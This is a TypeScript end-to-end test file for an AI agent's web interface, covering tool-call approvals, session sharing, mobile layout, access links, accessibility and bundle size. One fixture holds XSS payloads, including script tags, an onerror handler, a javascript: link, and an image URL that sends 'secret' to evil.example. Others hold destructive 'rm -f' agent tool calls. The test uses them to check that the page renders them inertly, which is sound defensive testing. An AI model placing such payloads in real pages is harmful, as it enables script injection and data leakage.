import { existsSync, readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { repositoryRoot } from "../e2e/test-mesh.ts";
import { auditCases } from "./audit-cases.ts";
import { MEMORY_CONVERSATIONS, memoryCases } from "./memory-cases.ts";
import { costCases } from "./cost-cases.ts";
import { keyboardCases } from "./keyboard-cases.ts";
import { modelsCases } from "./models-cases.ts";
import { PROPOSING } from "./proposing.ts";
import { startPagePool, type PagePool } from "./page-pool.ts";
import { ROBUST_CONVERSATIONS, robustCases } from "./robust-cases.ts";
import { SESSION_CONVERSATIONS, sessionCases } from "./session-cases.ts";
import { askInPage, hasBrowser, startWebMesh, type WebMesh } from "./web-mesh.ts";

const HOSTILE =
  'Look <script>window.pwned=1</script><img src="https://evil.example/1.png" onerror="window.pwned=1"> ' +
  '[click](javascript:window.pwned=1) ![p](https://evil.example/2.png?d=secret) \u202Edne\u202C\n\n<iframe src="https://evil.example"></iframe>';
const call = (command: string) => ({ tool: "shell_exec", arguments: { command } });
const edit = { tool: "edit_file", arguments: { path: "a.txt", old_text: "hello", new_text: "hallo" } };
const CONVERSATIONS = [
  ...SESSION_CONVERSATIONS,
  ...ROBUST_CONVERSATIONS,
  ...MEMORY_CONVERSATIONS,
  PROPOSING,
  {
    match: "fix the greeting",
    turns: [
      { thinking: "First I look.", text: "I look first.", toolCalls: [call("cat missing.txt")] },
      { toolCalls: [edit, call("rm -f b.txt && touch made-in-the-page")] },
      { text: "The greeting is **hallo** now." },
    ],
  },
  { match: "hostile", turns: [{ text: HOSTILE, toolCalls: [call("rm ./x\u202E")] }, { text: "That was it." }] },
  { match: "ask on the phone", turns: [{ toolCalls: [call("rm -f b.txt && touch made-on-the-phone")] }, { text: "Thank you." }] },
  { match: "be told no", turns: [{ toolCalls: [call("rm -f a.txt")] }, { text: "I leave it." }] },
  {
    match: "write three files",
    turns: [
      { toolCalls: ["one", "two", "three"].map((name) => ({ tool: "write_file", arguments: { path: `${name}.txt`, content: name } })) },
      { text: "As far as you let me." },
    ],
  },
  { match: "look once more", turns: [{ toolCalls: [{ tool: "read_file", arguments: { path: "a.txt" } }] }, { text: "Seen." }] },
  { match: "think for long", turns: [{ text: "Far too late.", delayMilliseconds: 60_000 }] },
];
const PLACES = [
  "/",
  "/approvals",
  "/cost",
  "/models",
  "/models?view=explain",
  "/models?view=pool",
  "/models?view=keys",
  "/settings",
  "/memory",
  "/memory/pulse",
  "/memory/river",
  "/memory/search?q=greeting",
  "/memory/facts",
  "/memory/inbox",
  "/memory/sources",
  "/memory/thread?q=keel%20plan",
  "/memory/recall",
  "/memory/recall?recall=1",
  "/memory/wiki",
  "/memory/wiki?page=harbour/tides&scope=project",
  "/audit",
  "/audit?view=counts",
  "/audit?view=approved",
];
const MOST_SCRIPT_BYTES = 200 * 1024;
const MOST_STYLE_BYTES = 20 * 1024;

interface AxeResult {
  readonly violations: readonly { readonly id: string; readonly nodes: readonly { readonly html: string }[] }[];
}

let web: WebMesh;
let pool: PagePool;
let session: string;

describe.skipIf(!hasBrowser)("the page", () => {
  beforeAll(async () => {
    pool = await startPagePool();
    web = await startWebMesh(CONVERSATIONS, pool.environment);
  });

  afterAll(async () => {
    await web.stop();
    pool.stop();
  });

  it("goes from a question over its approvals to the diff, and shows the decision in the audit log", async () => {
    const { page, refused, errors } = await web.open();
    expect(page.url()).not.toContain("code");
    session = await askInPage(page, web.workspace, "Please fix the greeting");
    const asked = page.getByRole("article", { name: "Waiting for you: run edit_file" });
    await asked.getByText("+hallo", { exact: true }).waitFor();
    await page.getByRole("article", { name: "Call of shell_exec" }).getByText("exit 1").waitFor();
    await asked.getByRole("button", { name: "Approve once" }).click();
    await asked.waitFor({ state: "detached" });
    const destructive = page.getByRole("article", { name: "Waiting for you: run shell_exec" });
    await destructive.getByText("rm -f b.txt").first().waitFor();
    expect(existsSync(join(web.workspace, "made-in-the-page"))).toBe(false);
    await destructive.getByRole("button", { name: "Approve once" }).click();
    await page.getByText("The greeting is hallo now.").waitFor();
    expect(readFileSync(join(web.workspace, "a.txt"), "utf8")).toBe("hallo\nworld\n");
    expect(existsSync(join(web.workspace, "made-in-the-page"))).toBe(true);

    await page.getByRole("button", { name: "Changes" }).click();
    const panel = page.getByRole("tabpanel");
    await panel.getByText("a.txt").waitFor();
    expect(await panel.innerText()).toMatch(/hello[^]*hallo/);

    await page.getByRole("link", { name: "Audit" }).click();
    const call = page.getByRole("region", { name: "Calls" }).getByRole("row").filter({ hasText: "edit_file" });
    await call.getByText("allow").waitFor();
    await call.getByText("approval", { exact: true }).waitFor();
    expect({ refused, errors }).toEqual({ refused: [], errors: [] });
  });

  it("shows the same session to another tab, live, and lets a person steer and stop it", async () => {
    const [one, other] = await Promise.all([web.open(), web.open()]);
    await one.page.goto(new URL(session, one.page.url()).href);
    await other.page.goto(new URL(session, other.page.url()).href);
    const turnsBegun = async (): Promise<number> => {
      const { stdout } = await web.mesh.hlvm(["session", "show", session.slice("/s/".length), "--json"]);
      return stdout.split('"type":"thinking"').length;
    };
    const before = await turnsBegun();
    await one.page.getByLabel("Ask more").fill("think for long");
    await one.page.getByLabel("Ask more").press("Enter");
    const steer = other.page.getByLabel("Steer this run");
    // What is said before the first turn begins is read in it, and waits for nothing.
    await expect.poll(turnsBegun).toBe(before + 1);
    await steer.fill("go another way");
    await steer.press("Enter");
    await one.page.getByText("queued; read at the next turn").waitFor();
    await one.page.getByRole("button", { name: "Stop" }).click();
    await other.page.getByText("Interrupted").waitFor();
    expect([...one.errors, ...other.errors]).toEqual([]);
    await Promise.all([one.page.close(), other.page.close()]);
  });

  it("gives a session another title, forks it and saves it as a file", async () => {
    const { page, refused } = await web.open();
    await page.goto(new URL(session, page.url()).href);
    const more = page.getByRole("button", { name: "More" });
    const fork = page.getByRole("button", { name: /^Fork/ });
    await more.click();
    await page.getByLabel("Title").fill("The greeting");
    await page.getByRole("button", { name: "Rename" }).click();
    await page.getByRole("heading", { level: 1, name: "The greeting" }).waitFor();
    await fork.waitFor({ state: "hidden" });
    await more.click();
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Save as Markdown" }).click()]);
    expect(readFileSync(await download.path(), "utf8")).toContain("# The greeting");
    await fork.waitFor({ state: "hidden" });
    await more.click();
    await fork.click();
    await page.getByText("Forked from another session").waitFor();
    expect(new URL(page.url()).pathname).not.toBe(session);
    expect(refused).toEqual([]);
    await page.close();
  });

  it("is answered on a phone: whole, with Deny and Approve apart", async () => {
    const { page } = await web.open({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
    await askInPage(page, web.workspace, "ask on the phone");
    await page.getByRole("link", { name: /Approvals 1 waiting/ }).tap();
    await page.waitForURL(/\/approvals$/);
    await page.getByRole("link", { name: /^shell_exec .*made-on-the-phone/ }).tap();
    await page.waitForURL(/\/approvals\/[0-9a-f-]{36}$/);
    const [deny, approve] = [page.getByRole("button", { name: "Deny" }), page.getByRole("button", { name: "Approve once" })];
    // The page's font comes after its first words, and moves them.
    await page.evaluate("document.fonts.ready.then(() => true)");
    const boxes = async () => {
      const [left, right] = await Promise.all([deny.boundingBox(), approve.boundingBox()]);
      return { least: Math.min(left!.height, right!.height), apart: right!.x - (left!.x + left!.width) };
    };
    await expect.poll(async () => (await boxes()).least).toBeGreaterThanOrEqual(48);
    expect((await boxes()).apart).toBeGreaterThanOrEqual(48);
    expect(await page.evaluate("document.documentElement.scrollWidth")).toBeLessThanOrEqual(390);
    await approve.tap();
    await page.getByText("Answered by").waitFor();
    await expect.poll(() => existsSync(join(web.workspace, "made-on-the-phone"))).toBe(true);
    await page.close();
  });

  it("is denied with a reason that the model reads, by its keys", async () => {
    const { page } = await web.open();
    const path = await askInPage(page, web.workspace, "be told no");
    const asked = page.getByRole("article", { name: "Waiting for you: run shell_exec" });
    await asked.getByLabel(/^Why/).fill("we need that file");
    const approve = asked.getByRole("button", { name: "Approve once" });
    // It wakes when the whole question has come and its end has been seen; until then it cannot have the focus.
    await expect.poll(() => approve.isEnabled()).toBe(true);
    await approve.focus();
    await page.keyboard.press("n");
    await page.getByText("I leave it.").waitFor();
    const { stdout } = await web.mesh.hlvm(["session", "show", path.slice("/s/".length), "--json"]);
    expect(stdout).toMatch(/"tool_end".*we need that file/);
    expect(existsSync(join(web.workspace, "a.txt"))).toBe(true);
    await page.close();
  });

  it("answers like questions together, but for those that are left out", async () => {
    const { page } = await web.open();
    await askInPage(page, web.workspace, "write three files");
    await page.getByRole("link", { name: /Approvals 3 waiting/ }).click();
    await page.waitForURL(/\/approvals$/);
    const alike = page.getByRole("region", { name: "Like questions" });
    await alike.getByText("two.txt").waitFor();
    await alike.getByRole("checkbox").nth(1).uncheck();
    await alike.getByRole("button", { name: "Approve 2 once" }).click();
    await page.getByRole("link", { name: /Approvals 1 waiting/ }).waitFor();
    await page.getByRole("button", { name: "Deny" }).click();
    const written = () => ["one", "two", "three"].filter((name) => existsSync(join(web.workspace, `${name}.txt`)));
    await expect.poll(() => written().length).toBe(2);
    await page.getByText("Nothing waits").waitFor();
    expect(written()).toHaveLength(2);
    await page.close();
  });

  it("runs nothing and loads nothing of what a model writes, and shows what hides in it", async () => {
    const { page, called, refused } = await web.open();
    await askInPage(page, web.workspace, "hostile, please");
    await page.getByText("That was it.").waitFor();
    await page.getByText("⟦U+202E⟧dne").waitFor();
    await page.getByText("⟦U+202E⟧", { exact: false }).nth(1).waitFor();
    expect(await page.getByText('image "p": https://evil.example/2.png?d=secret').count()).toBe(1);
    expect(await page.locator("main :is(img, iframe, script, a[href^='javascript'])").count()).toBe(0);
    expect(await page.evaluate("'pwned' in window")).toBe(false);
    expect(called.filter((url) => new URL(url).origin !== new URL(page.url()).origin)).toEqual([]);
    expect(refused).toEqual([]);
    await page.close();
  });

  auditCases(
    () => web,
    () => session,
  );

  memoryCases(() => web);
  sessionCases(() => web);
  robustCases(() => web);

  costCases(() => web);
  modelsCases(
    () => web,
    () => pool,
  );
  keyboardCases(
    () => web,
    () => session,
  );

  it("opens to nobody without a link, and to nobody with one that was used", async () => {
    const { page } = await web.open();
    const { origin } = new URL(page.url());
    const link = (await web.mesh.hlvm(["web", "--print"])).stdout.trim();
    await page.goto("about:blank");
    await page.goto(link);
    await page.getByRole("navigation", { name: "Places" }).waitFor();
    const stranger = await page.context().browser()!.newPage();
    for (const address of [`${origin}/`, link]) {
      await stranger.goto("about:blank");
      await stranger.goto(address);
      await stranger.getByText("Open this page with a link of your own").waitFor();
    }
    expect(await stranger.getByRole("alert").innerText()).toContain("was used already");
    await Promise.all([stranger.close(), page.close()]);
  });

  it.each([
    ["light", 1280],
    ["dark", 390],
  ] as const)("has no fault of WCAG 2.2 A or AA that axe finds: %s, %i px", { timeout: 240_000 }, async (colorScheme, width) => {
    const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
    // Trusted Types keep axe out; the other tests run with them.
    const { page } = await web.open({ colorScheme, viewport: { width, height: 844 }, bypassCSP: true, reducedMotion: "reduce" });
    const found: Record<string, unknown> = {};
    const asking = await askInPage(page, web.workspace, "be told no");
    await page.getByRole("article", { name: /^Waiting for you/ }).waitFor();
    const look = async (place: string): Promise<void> => {
      const tags = { type: "tag", values: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"] };
      const options = { runOnly: tags, resultTypes: ["violations"] };
      const { violations } = await page.evaluate<AxeResult>(`axe.run(${JSON.stringify(options)})`);
      const faults = violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 160)).join(" | ")}`);
      const right = await page.evaluate<number>(
        "Math.max(...[...document.querySelectorAll('header, main, article, form')].map((one) => one.getBoundingClientRect().right))",
      );
      if (right > width) faults.push(`it is ${right} px wide`);
      if (faults.length > 0) found[place] = faults;
    };
    for (const place of [...PLACES, asking, `${session}?panel=changes`, `${session}?panel=context`, `${session}?panel=people`, session]) {
      await page.goto(new URL(place, page.url()).href);
      await page.getByRole("heading", { level: 1 }).waitFor();
      await page.locator("header span", { hasText: /^Live$/ }).waitFor();
      await expect.poll(() => page.getByRole("status", { name: "Loading" }).count()).toBe(0);
      await page.evaluate(axe);
      await look(place);
    }
    await page.goto(new URL("/memory/river", page.url()).href);
    await page.locator("[data-row]").first().click();
    await page.getByRole("region", { name: "History" }).waitFor();
    await page.evaluate(axe);
    await look("an opened fact");
    await page.goto(new URL(session, page.url()).href);
    await page.getByRole("log").waitFor();
    await page.evaluate(axe);
    for (const [key, name] of [
      ["Control+k", "Go to or act"],
      ["?", "Keys of this page"],
      ["u", "Undo to a turn"],
    ] as const) {
      await page.keyboard.press(key);
      const dialog = page.getByRole("dialog", { name });
      await dialog.waitFor();
      await look(name);
      await page.keyboard.press("Escape");
      await dialog.waitFor({ state: "detached" });
    }
    expect(found).toEqual({});
    await page.close();
  });

  it("takes a key as a command right after a dialog was closed, whose field still has the focus", async () => {
    const { page } = await web.open();
    await page.goto(new URL("/models", page.url()).href);
    await page.getByRole("heading", { level: 1 }).waitFor();
    await page.keyboard.press("Control+k");
    await page.getByRole("combobox", { name: "Go to, act" }).waitFor();
    await page.evaluate(`{
      const { activeElement } = document;
      document.querySelector("dialog[open]").close();
      activeElement.dispatchEvent(new KeyboardEvent("keydown", { key: "?", bubbles: true, cancelable: true }));
    }`);
    await expect.poll(() => page.getByRole("dialog", { name: "Keys of this page" }).count()).toBe(1);
    await page.close();
  });

  it("loads at most 200 KB of script and 20 KB of style at first, at every place", async () => {
    const { page } = await web.open();
    let loaded = new Set<string>();
    page.on("response", (response) => loaded.add(new URL(response.url()).pathname));
    for (const place of [...PLACES, session]) {
      loaded = new Set();
      await page.goto(new URL(place, page.url()).href);
      await page.getByRole("heading", { level: 1 }).waitFor();
      await page.locator("header span", { hasText: /^Live$/ }).waitFor();
      const sizes = [".js", ".css"].map((ending) => compressedBytes([...loaded].filter((path) => path.endsWith(ending))));
      expect(sizes[0]).toBeGreaterThan(0);
      expect([place, sizes[0]! <= MOST_SCRIPT_BYTES, sizes[1]! <= MOST_STYLE_BYTES, sizes]).toEqual([place, true, true, sizes]);
    }
    await page.close();
  });
});

function compressedBytes(paths: readonly string[]): number {
  return paths.reduce((sum, path) => sum + readFileSync(join(repositoryRoot, "services", "web", "dist", `${path}.gz`)).length, 0);
}
